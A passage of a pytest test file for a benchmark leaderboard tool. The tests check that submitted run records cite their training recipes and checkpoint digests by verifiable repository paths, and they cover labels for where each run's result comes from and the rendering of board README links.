    assert "ok " in capsys.readouterr().out


def test_an_embedded_recipe_and_one_cited_from_the_boards_evidence_validate(tmp_path):
    embedded = _trained(recipe=recipe_block({"learning_rate": 1e-5, "steps": 20}))
    assert validate_file(_on_board(tmp_path, embedded)).problems == []
    # a run's result.json in the board's evidence: the sha256 is its config's canonical hash
    config = {"model": "runs/base", "learning_rate": 1e-5, "steps": 20}
    evidence = tmp_path / "leaderboards" / "gsm8k" / "evidence" / "outcome-s0"
    evidence.mkdir(parents=True)
    (evidence / "result.json").write_text(json.dumps({"config": config, "score": 0.5}))
    cited = _trained(recipe={"name": "training config", "sha256": recipe_digest(config),
                             "path": "leaderboards/gsm8k/evidence/outcome-s0/result.json"})
    assert validate_file(_on_board(tmp_path, cited)).problems == []  # its repository: tmp_path


@pytest.mark.parametrize(("name", "changes", "reason"), [
    ("model-folder-at-an-absolute-path",
     {"policy": "llm:/work/runs/gsm8k/checkpoints/step-20,temperature=0,batched"},
     "$.policy: '/work/runs/gsm8k/checkpoints/step-20' is a path on the machine that made the "
     "record"),
    ("model-folder-at-a-windows-path", {"policy": "llm:C:/runs/model"},
     "$.policy: 'C:/runs/model' is a path on the machine"),
    ("model-folder-in-the-home", {"policy": "llm:~/runs/model"},  # the schema's pattern
     "$.policy: 'llm:~/runs/model' does not match"),
    ("digest-not-hex", {"setup__checkpoint_sha256": "12345"},
     "$.setup.checkpoint_sha256: '12345' does not match"),
    ("digest-in-capitals", {"setup__checkpoint_sha256": "AB" * 32},
     "$.setup.checkpoint_sha256: 'ABAB"),
    ("weights-without-a-digest", {"setup__checkpoint_sha256": _DELETE},
     "$.setup.checkpoint_sha256: a run of a policy that loads weights states the digest"),
    ("digest-of-a-scripted-policy", {"policy": "random"},
     "$.setup.checkpoint_sha256: only a policy that loads weights"),
    ("recipe-by-a-bare-hash", {"recipe": {"name": "config", "sha256": "0" * 64}},
     "a bare sha256 names a recipe nobody can check"),
    ("recipe-both-cited-and-embedded", {"recipe__config": {"steps": 3}},
     "$.recipe: give path or config, not both"),
    ("recipe-outside-the-kept-folders", {"recipe__path": "runs/gsm8k/config.yaml"},
     "$.recipe.path: 'runs/gsm8k/config.yaml' lies outside baselines and "
     "leaderboards/gsm8k/evidence"),
    ("recipe-in-another-boards-evidence",
     {"recipe__path": "leaderboards/alfworld/evidence/dagger-base-L0.json"}, "lies outside"),
    ("recipe-path-leaving-the-repository", {"recipe__path": "../baselines/gsm8k-outcome.yaml"},
     "$.recipe.path: '../baselines/gsm8k-outcome.yaml' does not match"),
    ("recipe-at-an-absolute-path", {"recipe__path": "/srv/repo/baselines/gsm8k-outcome.yaml"},
     "$.recipe.path: '/srv/repo/baselines/gsm8k-outcome.yaml' does not match"),
    ("recipe-file-the-repository-lacks", {"recipe__path": "baselines/no-such-recipe.yaml"},
     "$.recipe.path: baselines/no-such-recipe.yaml is not a file the repository holds"),
    ("recipe-hash-of-another-file", {"recipe__sha256": file_sha256(BASE)},
     "is the hash neither of baselines/gsm8k-outcome.yaml nor of its config"),
    ("embedded-recipe-of-another-hash",
     {"recipe": {"name": "config", "sha256": "0" * 64, "config": {"steps": 3}}},
     "$.recipe.sha256: '" + "0" * 64 + "' is not the hash of the embedded config"),
])
def test_a_record_that_cannot_be_checked_elsewhere_is_rejected(tmp_path, name, changes, reason):
    report = validate_file(_on_board(tmp_path, _trained(**changes)), repository=REPO)
    assert any(reason in p for p in report.problems), report.problems


def test_a_cited_recipe_is_looked_for_in_the_boards_repository(tmp_path):
    """On a board, the repository is the folder holding its leaderboards folder: a record
    citing baselines/ is checked against the recipe there, not against this checkout's."""
    path = _on_board(tmp_path, _trained())
    assert any("is not a file the repository holds" in p for p in validate_file(path).problems)
    (tmp_path / "baselines").mkdir()
    (tmp_path / "baselines" / RECIPE.name).write_text("steps: 3\n")  # another recipe
    assert any("is the hash neither of" in p for p in validate_file(path).problems)
    (tmp_path / "baselines" / RECIPE.name).write_bytes(RECIPE.read_bytes())
    assert validate_file(path).problems == []


def test_committed_runs_name_no_machine_path_and_state_their_checkpoint_digest():
    for path in committed():
        record = json.loads(path.read_text())
        policy = record["policy"] or ""
        model = policy.partition(":")[2].partition(",")[0]
        assert not model.startswith(("/", "~")), path
        if record["kind"] == "run" and policy.startswith(WEIGHT_POLICIES):
            assert "checkpoint_sha256" in record["setup"], path
        if record["recipe"] is not None:
            assert {"path", "config"} & set(record["recipe"]), path


# -- provenance: run here, submitted, reported --------------------------------------------------

def test_committed_runs_are_listed_as_run_here_and_an_edit_unlists_one():
    from derl_bench.evaluation.record import read_run_here
    from derl_bench.leaderboard.board import provenance

    listed = read_run_here(BOARDS)
    records = [json.loads(p.read_text()) for p in committed()]
    assert {provenance(r, listed) for r in records if r["kind"] == "run"} == {"run here"}
    assert {provenance(r, listed) for r in records if r["kind"] == "reported"} == {"reported"}
    edited = base_record()
    edited["results"]["mean_steps"] = 0.5
    assert provenance(edited, listed) == "submitted"
    boards = build_boards([(Path("gsm8k/x.json"), edited)], listed)
    assert [r.provenance for r in boards[0].rows] == ["submitted"]


def test_run_here_lists_run_records_only(tmp_path, capsys):
    board = tmp_path / "leaderboards" / "gsm8k"
    board.mkdir(parents=True)
    paper = BOARDS / "gsm8k" / "reported-derl-paper-derl-trained-on-math-only-L0.json"
    run, reported = board / BASE.name, board / paper.name
    run.write_text(BASE.read_text())
    reported.write_text(paper.read_text())
    root = str(tmp_path / "leaderboards")
    assert main(["leaderboard", "run-here", "--dir", root, str(run), str(reported)]) == 2
    assert "was not run here" in capsys.readouterr().err
    assert not (tmp_path / "leaderboards" / "run-here.txt").exists()
    assert main(["leaderboard", "run-here", "--dir", root, str(run)]) == 0
    lines = (tmp_path / "leaderboards" / "run-here.txt").read_text().splitlines()
    assert lines[1].endswith(f"  gsm8k/{BASE.name}") and len(lines) == 2


def test_the_proxy_lists_the_records_it_writes_as_run_here(tmp_path):
    from derl_bench.evaluation.record import read_run_here
    from derl_bench.experiments.proxy import copy_records
    from derl_bench.leaderboard.board import provenance

    source = tmp_path / "L0.json"
    source.write_text(BASE.read_text())
    rows = [{"method": "derl", "seed": 0, "eval": {"L0": {"record": str(source)}}}]
    written = copy_records(rows, tmp_path, tmp_path / "leaderboards" / "gsm8k")
    listed = read_run_here(tmp_path / "leaderboards")
    assert list(listed.values()) == ["gsm8k/derl-s0-L0.json"]
    assert provenance(json.loads(written[0].read_text()), listed) == "run here"


def test_a_board_with_a_study_links_to_it_and_check_sees_a_new_one(tmp_path):
    board_dir = tmp_path / "leaderboards"
    for name in ("alfworld", "gsm8k"):
        (board_dir / name).mkdir(parents=True)
        for record in ("oracle-none-L0.json", "random-none-L0.json"):
            if (BOARDS / name / record).is_file():
                (board_dir / name / record).write_bytes((BOARDS / name / record).read_bytes())
    (board_dir / "alfworld" / "study").mkdir()
    (board_dir / "alfworld" / "study" / "README.md").write_text("# A study\n")
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--no-charts"]) == 0
    readme = (board_dir / "README.md").read_text()
    assert readme.count("/study/README.md)") == 1
    assert "[alfworld/study](alfworld/study/README.md)" in readme
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--check"]) == 0
    (board_dir / "gsm8k" / "study").mkdir()
    (board_dir / "gsm8k" / "study" / "README.md").write_text("# Another\n")
    assert main(["leaderboard", "render", "--dir", str(board_dir), "--check"]) == 1
